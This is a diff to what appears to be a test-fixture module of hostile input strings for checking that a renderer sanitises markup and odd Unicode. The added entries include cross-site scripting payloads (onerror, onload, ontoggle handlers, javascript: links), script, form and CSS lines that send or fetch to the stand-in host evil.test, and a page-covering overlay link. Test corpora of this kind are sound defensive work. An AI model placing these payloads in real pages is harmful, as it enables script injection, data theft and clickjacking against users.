@@ -69,6 +69,18 @@ _MARKUP = [
     "$\\href{javascript:alert(1)}{x}$ \\unicode{x202e} $$\\require{html}$$",
     '{"cells": [{"cell_type": "markdown", "source": "<script>alert(1)</script>"}]}',
     '{"cells": [{"outputs": [{"data": {"text/html": "<script>alert(1)</script><b>x</b>"}}]}]}',
+    "<img src=x onerror='top.ran=1'>one\n\n<img src=x onerror='top.ran=1'>\n\n[x](javascript:top.ran=1)",
+    "one\n\n![x](http://evil.test/x.png)\n\n[x](javascript:alert(1)) <javascript:alert(1)>\n\n    code",
+    "one\n \t\n# Headline\n\n- list\n\n```\n</div></div></div><script>alert(1)</script>\n```\n\n<svg onload=alert(1)>",
+    "from $5 <img src=x onerror=alert(1)> to $6 \\begin{a}<script>alert(1)</script>\\end{a} `x` ~~~",
+    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>over</dialog>",
+    "<button formaction=javascript:alert(1) popovertarget=p>OK</button><div id=p popover>over</div>",
+    "<svg><image href=http://evil.test/x.png /><foreignObject><iframe src=//evil></iframe></foreignObject></svg>",
+    "<style>@\\69mport 'http://evil.test'; b { background: u\\72l(http://evil.test/b.png) }</style><b>b</b>",
+    "<script>top.location = 'http://evil.test'; open('http://evil.test'); fetch('http://evil.test')</script>",
+    "<form action=http://evil.test target=_top><input name=x value=y></form><script>document.forms[0].submit()</script>",
+    "<a href=http://evil.test target=_blank style='position:fixed;inset:0;z-index:9999'>over all</a>",
+    "<img src=//evil.test/a.png><img srcset='//evil.test/b.png 2x'><audio src=//evil.test autoplay></audio>",
 ]
 
 _TERMINAL = [
@@ -106,6 +118,8 @@ _UNSEEN = [
     "\udfff\ud83d",
     "\U0010ffff\ufffe",
     "e" + "\u0301" * 500,
+    "\u0e2d" + "\u0e49\u0e47" * 200 + "\u0416" + "\u0488\u20dd" * 200,
+    "\u05e9\u05dc\u05d5\u05dd (1) \u0639\u0631\u0628\u064a 23",
 ]
 
 _FLOODS: list[Any] = [
@@ -140,3 +154,6 @@ _OTHER: list[Any] = [
 VALUES = {
     f"{number}": value for number, value in enumerate([*_MARKUP, *_TERMINAL, *_UNSEEN, *_FLOODS, *_OTHER])
 }
+
+SMALL = {name: value for name, value in VALUES.items() if len(str(value)) < 2000}
+"""Those that flood nothing, for pages that hold many at once."""
